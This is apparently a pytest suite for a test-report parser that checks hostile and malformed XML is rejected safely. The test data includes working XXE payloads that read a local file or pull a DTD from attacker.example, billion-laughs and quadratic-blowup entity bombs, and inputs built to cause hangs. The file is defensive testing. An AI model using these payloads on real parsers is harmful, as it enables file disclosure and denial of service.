"""Hostile and broken input: every case is a clear ReportError, never a crash or a hang."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.core.reports import ReportError, detect_format, parse_report

# Each test runs with the compiled and the pure-Python JUnit case reader.
pytestmark = pytest.mark.usefixtures("junit_reader")

OK_SUITE = b'<testsuite name="s"><testcase classname="c" name="t"/></testsuite>'


def _error(data: bytes, **kwargs: object) -> ReportError:
    with pytest.raises(ReportError) as info:
        parse_report(data, path="r.xml", **kwargs)  # type: ignore[arg-type]
    assert str(info.value).startswith("r.xml")
    return info.value


def test_xxe_external_file_is_not_read(tmp_path: Path, no_network: None) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    data = (
        f'<?xml version="1.0"?><!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        '<testsuite name="s"><testcase classname="c" name="t"><failure message="&xxe;">'
        "&xxe;</failure></testcase></testsuite>"
    ).encode()
    error = _error(data)
    assert "entities" in error.reason
    assert "TOP-SECRET-VALUE" not in str(error)


def test_xxe_https_url_never_touches_the_network(no_network: None) -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE testsuite [<!ENTITY % sp SYSTEM '
        b'"https://attacker.example/evil.dtd"> %sp;]><testsuite name="s"/>'
    )
    _error(data)


def test_external_dtd_without_entities_is_not_loaded(no_network: None) -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "https://attacker.example/x.dtd">'
        b'<testsuite name="s"><testcase classname="c" name="t"/></testsuite>'
    )
    report = parse_report(data, path="r.xml")
    assert report.counts.total == 1


def test_billion_laughs_is_refused() -> None:
    entities = "".join(
        f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" * 1}' + f'{("&lol" + str(i - 1) + ";") * 9}">'
        for i in range(1, 10)
    )
    data = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>'
        '<testsuite name="s"><testcase classname="c" name="&lol9;"/></testsuite>'
    ).encode()
    _error(data)


def test_quadratic_blowup_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "' + b"x" * 50_000 + b'">]>'
        b'<testsuite name="s"><testcase classname="c" name="t"><failure>'
        + b"&a;" * 50_000
        + b"</failure></testcase></testsuite>"
    )
    _error(data)


def test_undeclared_entity_is_a_syntax_error() -> None:
    error = _error(b'<testsuite name="s"><testcase classname="c" name="&nope;"/></testsuite>')
    assert error.line == 1


def test_truncated_xml_names_line_and_column() -> None:
    data = b'<?xml version="1.0"?>\n<testsuite name="s">\n  <testcase classname="c" name="t">\n'
    error = _error(data)
    assert error.line is not None and error.column is not None
    assert "r.xml:" in str(error)


def test_wrong_encoding_declaration() -> None:
    data = '<?xml version="1.0" encoding="UTF-8"?><testsuite name="Grüße"/>'.encode("latin-1")
    error = _error(data)
    assert "UTF-8" in error.reason or "encoding" in error.reason.lower()


def test_unknown_encoding_declaration() -> None:
    _error(b'<?xml version="1.0" encoding="no-such-codec"?><testsuite name="s"/>')


def test_latin1_declared_is_read_correctly() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><testsuite name="Grüße"/>'
    report = parse_report(data.encode("latin-1"), path="r.xml")
    assert report.suites[0].name == "Grüße"


def test_utf16_with_bom_is_detected_and_parsed() -> None:
    data = ('<?xml version="1.0" encoding="UTF-16"?>' + OK_SUITE.decode()).encode("utf-16")
    assert detect_format(data) == "junit"
    assert parse_report(data).counts.total == 1


def test_utf8_bom_is_accepted() -> None:
    assert parse_report(b"\xef\xbb\xbf" + OK_SUITE).counts.total == 1


def test_invalid_utf8_inside_the_document() -> None:
    data = b'<testsuite name="s"><testcase classname="c" name="\xff\xfe\xfa"/></testsuite>'
    error = _error(data)
    assert error.line == 1


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"   \n\t  ", "empty"),
        (bytes(range(256)) * 4, "binary"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
        (b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>", "HTML"),
        (b"<html><head><title>x</title></head></html>", "HTML"),
        (b'<?xml version="1.0"?><project><modelVersion/></project>', "<project>"),
        (b"just some words\nand more\n", "no known format"),
        (b'{"name": "my-package", "version": "1.0.0"}', "JSON"),
    ],
)
def test_not_a_report_says_what_it_looks_like(data: bytes, words: str) -> None:
    error = _error(data)
    assert error.reason.startswith("not a test report")
    assert words in error.reason


def test_file_over_the_size_cap_is_refused_before_parsing() -> None:
    error = _error(OK_SUITE + b" " * 2000, max_bytes=1000)
    assert "limit" in error.reason


def test_forced_junit_format_on_other_xml_is_an_error() -> None:
    error = _error(b"<catalog><book/></catalog>", format="junit")
    assert "<catalog>" in error.reason


def test_unknown_forced_format() -> None:
    with pytest.raises(ReportError, match="unknown format"):
        parse_report(OK_SUITE, format="no-such-format")


def test_deep_nesting_is_an_error_not_a_crash() -> None:
    data = b"<testsuite>" * 100_000 + b"</testsuite>" * 100_000
    _error(data)


@pytest.mark.timeout(60)  # a guard against a hang, not a performance assertion
@pytest.mark.parametrize(
    "data",
    [
        b"<?a?>" * 13_000 + b"<",
        b"<!---->" * 9_000 + b"<!",
        b"<!DOCTYPE x [" * 5_000,
        b"<!DOCTYPE x [" + b"]" * 60_000,
        b"<testsuite>" + b"<testcase " * 20_000,
    ],
)
def test_pathological_prologs_do_not_hang(data: bytes) -> None:
    _error(data)
